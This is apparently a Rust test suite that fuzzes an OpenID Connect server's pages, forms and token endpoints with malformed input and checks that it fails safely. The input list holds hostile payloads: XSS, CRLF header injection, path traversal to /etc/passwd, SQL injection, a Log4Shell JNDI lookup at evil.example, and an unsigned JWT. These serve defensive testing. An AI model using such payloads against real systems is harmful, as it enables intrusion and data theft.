//! Malformed, oversized, doubled and hostile input at every address: an answer of the RFCs or a plain page, never a 5xx,
//! never a redirect to an address that nobody registered, never an echo that is not escaped.

use std::sync::atomic::{AtomicU32, Ordering};

use reqwest::Method;
use reqwest::header::{CONTENT_TYPE, COOKIE, HeaderMap, HeaderValue};
use tokio::sync::OnceCell;
use url::{Url, form_urlencoded};

use super::world::{WEB_SECRET, prepared};
use crate::support::relying_party::{Answer, RelyingParty};
use crate::support::server::{CALLBACK, TestServer};

static SERVER: OnceCell<TestServer> = OnceCell::const_new();
static NEXT: AtomicU32 = AtomicU32::new(1);

async fn server() -> &'static TestServer {
    SERVER.get_or_init(prepared).await
}

/// Must never come back as it is in a page.
const SCRIPT: &str = "'\"><svg onload=alert(1)>";

/// Values, already encoded for a query or a form.
pub fn values() -> Vec<String> {
    let encode = |text: &str| form_urlencoded::byte_serialize(text.as_bytes()).collect::<String>();
    let mut values: Vec<String> = [
        SCRIPT,
        "\u{0}",
        "a\r\nSet-Cookie: evil=1\r\nLocation: https://evil.example/",
        "\u{202e}é\u{feff}",
        "../../../../etc/passwd",
        "' or 1=1; drop table users; --",
        "${jndi:ldap://evil.example/}{{7*7}}%s%n",
        "https://evil.example/",
        "99999999999999999999999999999999",
        "-1",
        "1e400",
        "[]",
        "{\"id_token\":[]}",
        r#"{"userinfo":{"a\u0000b":null}}"#,
        r#"{"userinfo":{"name":{"value":"\u0000"}}}"#,
        r#"{"id_token":{"acr":{"values":["\u0000"]}}}"#,
        // A place in a list, as the console hands it out: `[0,"\u0000",…]`.
        "WzAsIlx1MDAwMCIsIjAwMDAwMDAwLTAwMDAtMDAwMC0wMDAwLTAwMDAwMDAwMDAwMCJd",
        "WzAsIlx1MDAwMCJd",
        "00000000-0000-0000-0000-000000000000",
        "eyJhbGciOiJub25lIn0.e30.",
    ]
    .into_iter()
    .map(encode)
    .collect();
    values.push(encode(&"[".repeat(2_000)));
    values.push(encode(&"x".repeat(9_000)));
    values.push("%ff%fe".to_owned());
    values.push("%ed%a0%80".to_owned());
    values.push("%zz%".to_owned());
    values
}

/// Queries and forms that are wrong as a whole.
pub fn wholes(name: &str) -> Vec<String> {
    vec![
        format!("{name}=1&{name}=2"),
        format!("{name}=same&{name}=same"),
        format!("{name}[]=1&{name}[a]=2"),
        "&&&=&=&".to_owned(),
        "%".to_owned(),
        "=".to_owned(),
        (0..300).map(|number| format!("p{number}=1&")).collect(),
    ]
}

pub async fn send(method: Method, url: Url, headers: HeaderMap, body: Option<String>) -> Answer {
    let number = NEXT.fetch_add(1, Ordering::Relaxed).to_be_bytes();
    let address = format!("10.{}.{}.{}", number[1], number[2], number[3]);
    RelyingParty::send(method, url, body, headers, &address).await
}

/// What holds of every answer.
pub fn check(server: &TestServer, what: &str, answer: &Answer) {
    assert!(answer.status < 500, "{what}: {} {}", answer.status, answer.body);
    for name in answer.headers.keys() {
        assert!(name != "evil", "{what}: a header was injected");
    }
    for cookie in answer.headers.get_all("set-cookie") {
        assert!(!cookie.to_str().unwrap().contains("evil"), "{what}: {cookie:?}");
    }
    if let Some(location) = answer.header("location") {
        let target = server.at("/").join(location).unwrap();
        let is_home = target.origin() == server.at("/").origin();
        assert!(is_home || target.as_str().starts_with(CALLBACK), "{what}: to {target}");
    }
    let kind = answer.header("content-type").unwrap_or_default().to_owned();
    if kind.starts_with("text/html") {
        assert!(!answer.body.contains("<svg onload"), "{what}: echoed");
        assert!(!answer.body.contains("href=\"https://evil"), "{what}: linked");
        assert!(!answer.body.contains("action=\"https://evil"), "{what}: posts away");
        assert!(answer.headers.contains_key("content-security-policy"), "{what}");
    } else if kind.starts_with("application/json") && answer.status >= 400 {
        let error = answer.json();
        let description = error["error_description"].as_str().unwrap_or_default();
        crate::conformance::check_description(description);
        assert!(error["error"].is_string(), "{what}: {error}");
    }
    assert_eq!(answer.header("x-content-type-options"), Some("nosniff"), "{what}");
}

/// Every page with the parameters that it reads.
pub const PAGES: &[(&str, &[&str])] = &[
    ("/", &["x"]),
    ("/login", &["request", "return_to", "ui_locales", "switch"]),
    ("/login/select", &["request"]),
    ("/login/new-password", &["request", "return_to"]),
    ("/register", &["request", "ui_locales"]),
    ("/register/verify", &["registration", "token", "resent"]),
    ("/recover", &["request"]),
    ("/recover/reset", &["token"]),
    ("/consent", &["request"]),
    (
        "/logout",
        &[
            "request",
            "client_id",
            "state",
            "post_logout_redirect_uri",
            "id_token_hint",
        ],
    ),
    ("/logout/done", &["client_id"]),
    ("/account", &["x"]),
    ("/console", &["x"]),
    ("/console/users", &["q", "after", "limit"]),
    ("/console/audit", &["after", "kind", "user"]),
    ("/console/apps", &["after"]),
    ("/console/keys", &["done"]),
    ("/account/confirm", &["next", "lost"]),
    ("/account/email/verify", &["token"]),
    ("/nothing/here", &["x"]),
    ("/static/x", &["x"]),
];

#[tokio::test]
async fn pages_bear_anything_in_their_address() {
    let server = server().await;
    for (path, names) in PAGES {
        for name in *names {
            let queries = values().into_iter().map(|value| format!("{name}={value}"));
            for query in queries.chain(wholes(name)) {
                let mut url = server.at(path);
                url.set_query(Some(&query));
                let answer = send(Method::GET, url, HeaderMap::new(), None).await;
                check(server, &format!("GET {path}?{query:.60}"), &answer);
            }
        }
    }
}

#[tokio::test]
async fn paths_bear_anything() {
    let server = server().await;
    for path in [
        "/%00",
        "/%ff",
        "/..%2f..%2fetc/passwd",
        "/static/..%2f..%2fCargo.toml",
        "/static/%2e%2e/%2e%2e/etc/passwd",
        "//evil.example/",
        "//evil.example/%2e%2e",
        "/login/",
        "/login//",
        "/LOGIN",
        "/login;x=1",
        "/authorize/..",
        "/console/users/%22%3E%3Csvg%20onload=alert(1)%3E",
        "/console/users/00000000-0000-0000-0000-000000000000",
        "/console/apps/%00",
        "/.well-known/",
        "/.well-known/openid-configuration/x",
        "/.git/config",
    ] {
        let url: Url = format!("{}{path}", server.issuer()).parse().unwrap();
        let answer = send(Method::GET, url, HeaderMap::new(), None).await;
        check(server, path, &answer);
        assert!(
            !answer.body.contains("root:") && !answer.body.contains("[package]"),
            "{path}"
        );
    }
}

const AUTHORIZE: &[&str] = &[
    "client_id",
    "redirect_uri",
    "response_type",
    "response_mode",
    "scope",
    "state",
    "nonce",
    "prompt",
    "max_age",
    "display",
    "ui_locales",
    "acr_values",
    "login_hint",
    "id_token_hint",
    "claims",
    "resource",
    "code_challenge",
    "code_challenge_method",
    "request",
    "request_uri",
    "registration",
];

#[tokio::test]
async fn the_authorization_endpoint_bears_anything_by_get_and_by_post() {
    let server = server().await;
    let app = server.relying_party("web", WEB_SECRET).await;
    let good: Vec<(String, String)> = app.ask(&[]).url.query_pairs().into_owned().collect();
    let rest = |name: &str| {
        let others = good.iter().filter(|(known, _)| known != name);
        form_urlencoded::Serializer::new(String::new())
            .extend_pairs(others)
            .finish()
    };
    for name in AUTHORIZE {
        let values = values().into_iter().map(|value| format!("{name}={value}"));
        for bad in values.chain(wholes(name)) {
            let query = format!("{}&{bad}", rest(name));
            let what = format!("{name}: {bad:.60}");
            let mut url = server.at("/authorize");
            url.set_query(Some(&query));
            let answer = send(Method::GET, url, HeaderMap::new(), None).await;
            check(server, &what, &answer);
            let posted = send(Method::POST, server.at("/authorize"), form_headers(), Some(query)).await;
            check(server, &what, &posted);
        }
    }
}

pub fn form_headers() -> HeaderMap {
    let form = HeaderValue::from_static("application/x-www-form-urlencoded");
    HeaderMap::from_iter([(CONTENT_TYPE, form)])
}

/// The endpoints for programs: by their names in the discovery document, a sound request, and what is varied.
const BACK_CHANNEL: &[(&str, &str, &[&str])] = &[
    (
        "token_endpoint",
        "grant_type=authorization_code&code=c&redirect_uri=r&code_verifier=v",
        &[
            "grant_type",
            "code",
            "redirect_uri",
            "code_verifier",
            "resource",
            "scope",
            "client_id",
            "client_secret",
        ],
    ),
    (
        "token_endpoint",
        "grant_type=refresh_token&refresh_token=r",
        &["refresh_token", "scope", "resource"],
    ),
    (
        "token_endpoint",
        "grant_type=client_credentials",
        &["scope", "resource", "client_assertion", "client_assertion_type"],
    ),
    (
        "introspection_endpoint",
        "token=t",
        &["token", "token_type_hint", "client_id"],
    ),
    ("revocation_endpoint", "token=t", &["token", "token_type_hint"]),
    ("userinfo_endpoint", "access_token=t", &["access_token"]),
    (
        "end_session_endpoint",
        "state=s",
        &["id_token_hint", "post_logout_redirect_uri", "state", "client_id"],
    ),
];

#[tokio::test]
async fn endpoints_for_programs_bear_anything() {
    let server = server().await;
    let app = server.relying_party("web", WEB_SECRET).await;
    let mut known = form_headers();
    let pair = base64::Engine::encode(
        &base64::engine::general_purpose::STANDARD,
        format!("web:{}", WEB_SECRET.replace(' ', "+")),
    );
    known.insert("authorization", format!("Basic {pair}").parse().unwrap());
    for (endpoint, sound, names) in BACK_CHANNEL {
        for name in *names {
            let values = values().into_iter().map(|value| format!("{name}={value}"));
            for bad in values.chain(wholes(name)) {
                let others: Vec<&str> = sound
                    .split('&')
                    .filter(|pair| !pair.starts_with(&format!("{name}=")))
                    .collect();
                let body = format!("{}&{bad}", others.join("&"));
                // Userinfo takes one token, in one place.
                let headers = if *endpoint == "userinfo_endpoint" {
                    form_headers()
                } else {
                    known.clone()
                };
                let answer = send(Method::POST, app.endpoint(endpoint), headers, Some(body)).await;
                check(server, &format!("{endpoint} {bad:.60}"), &answer);
                assert!(
                    *endpoint == "revocation_endpoint"
                        || *endpoint == "introspection_endpoint"
                        || *endpoint == "end_session_endpoint"
                        || answer.status >= 400,
                    "{endpoint} {bad:.60}"
                );
            }
        }
    }
}

#[tokio::test]
async fn credentials_in_headers_bear_anything() {
    let server = server().await;
    let app = server.relying_party("web", WEB_SECRET).await;
    let base64 = |text: &[u8]| base64::Engine::encode(&base64::engine::general_purpose::STANDARD, text);
    let values = [
        "Basic".to_owned(),
        "Basic ".to_owned(),
        "Basic !!!".to_owned(),
        format!("Basic {}", base64(b"\xff\xfe:x")),
        format!("Basic {}", base64(b"no colon")),
        format!("Basic {}", base64(b":")),
        format!("Basic {}", base64(b"\0:\0")),
        format!("Basic {}", base64(b"web%zz:%")),
        format!("Basic {}", base64("x".repeat(8_000).as_bytes())),
        "Bearer".to_owned(),
        "Bearer ".to_owned(),
        "Bearer a b c".to_owned(),
        format!("Bearer {}", "a".repeat(8_000)),
        format!("Bearer {}.{}.{}", "e30", "e30", "e30"),
        "Bearer eyJhbGciOiJub25lIn0.e30.".to_owned(),
        "Digest username=\"web\"".to_owned(),
        "é".to_owned(),
    ];
    for value in &values {
        for endpoint in [
            "token_endpoint",
            "introspection_endpoint",
            "revocation_endpoint",
            "userinfo_endpoint",
        ] {
            let mut headers = form_headers();
            headers.insert("authorization", HeaderValue::from_bytes(value.as_bytes()).unwrap());
            let body = Some("token=t&grant_type=client_credentials".to_owned());
            let answer = send(Method::POST, app.endpoint(endpoint), headers, body).await;
            check(server, &format!("{endpoint} {value:.40}"), &answer);
            assert!(
                [400, 401].contains(&answer.status),
                "{endpoint} {value:.40}: {}",
                answer.status
            );
        }
    }
    // RFC 6750 §2: one way only.
    let mut headers = form_headers();
    headers.insert("authorization", HeaderValue::from_static("Bearer a"));
    let both = send(
        Method::POST,
        app.endpoint("userinfo_endpoint"),
        headers,
        Some("access_token=a".to_owned()),
    )
    .await;
    assert_eq!(both.status, 400);
    let mut url = app.endpoint("userinfo_endpoint");
    url.set_query(Some("access_token=a"));
    let in_query = send(Method::GET, url, HeaderMap::new(), None).await;
    assert!([400, 401].contains(&in_query.status), "{}", in_query.status);
}

/// The forms of the pages, with the fields that they read.
const FORMS: &[(&str, &[&str])] = &[
    ("/login", &["identifier", "password", "request", "decision"]),
    ("/register", &["email", "password", "username", "request"]),
    ("/register/verify", &["registration", "code", "token"]),
    ("/register/resend", &["registration"]),
    ("/recover", &["identifier", "request"]),
    ("/recover/reset", &["token", "password"]),
    ("/consent", &["request", "decision"]),
    ("/login/select", &["request", "decision"]),
    ("/login/new-password", &["request", "password"]),
    ("/logout", &["request", "decision"]),
];

#[tokio::test]
async fn forms_bear_anything_in_their_fields() {
    let server = server().await;
    let mut browser = server.browser();
    let page = browser.open(&server.at("/login")).await;
    let csrf = page.form("sign-in").field("csrf").unwrap().to_owned();
    let cookie = format!("signet-browser={}", browser.cookie("signet-browser").unwrap().value);
    for (path, fields) in FORMS {
        for field in *fields {
            let others: String = fields
                .iter()
                .filter(|other| *other != field)
                .map(|other| format!("&{other}=x"))
                .collect();
            let values = values().into_iter().map(|value| format!("{field}={value}"));
            for bad in values.chain(wholes(field)) {
                let mut headers = form_headers();
                headers.insert(COOKIE, cookie.parse().unwrap());
                let body = format!("csrf={csrf}{others}&{bad}");
                let answer = send(Method::POST, server.at(path), headers, Some(body)).await;
                check(server, &format!("POST {path} {bad:.60}"), &answer);
            }
        }
    }
}

#[tokio::test]
async fn other_types_of_bodies_and_other_methods_are_refused() {
    let server = server().await;
    let app = server.relying_party("web", WEB_SECRET).await;
    let mut addresses: Vec<Url> = [
        "token_endpoint",
        "introspection_endpoint",
        "revocation_endpoint",
        "userinfo_endpoint",
    ]
    .map(|name| app.endpoint(name))
    .to_vec();
    addresses.extend(
        [
            "/authorize",
            "/end_session",
            "/login",
            "/register",
            "/consent",
            "/logout",
        ]
        .map(|path| server.at(path)),
    );
    for url in addresses {
        for kind in [
            "application/json",
            "multipart/form-data; boundary=x",
            "text/plain",
            "application/xml",
            ";;;",
        ] {
            let headers = HeaderMap::from_iter([(CONTENT_TYPE, kind.parse().unwrap())]);
            let body = Some("{\"a\": [1, 2".to_owned());
            let answer = send(Method::POST, url.clone(), headers, body).await;
            check(server, &format!("{url} {kind}"), &answer);
            assert!((400..500).contains(&answer.status), "{url} {kind}: {}", answer.status);
        }
        for method in ["PUT", "DELETE", "PATCH", "TRACE", "PROPFIND", "BREW"] {
            let method = Method::from_bytes(method.as_bytes()).unwrap();
            let answer = send(method.clone(), url.clone(), HeaderMap::new(), None).await;
            check(server, &format!("{method} {url}"), &answer);
            assert_eq!(answer.status, 405, "{method} {url}");
        }
    }
}
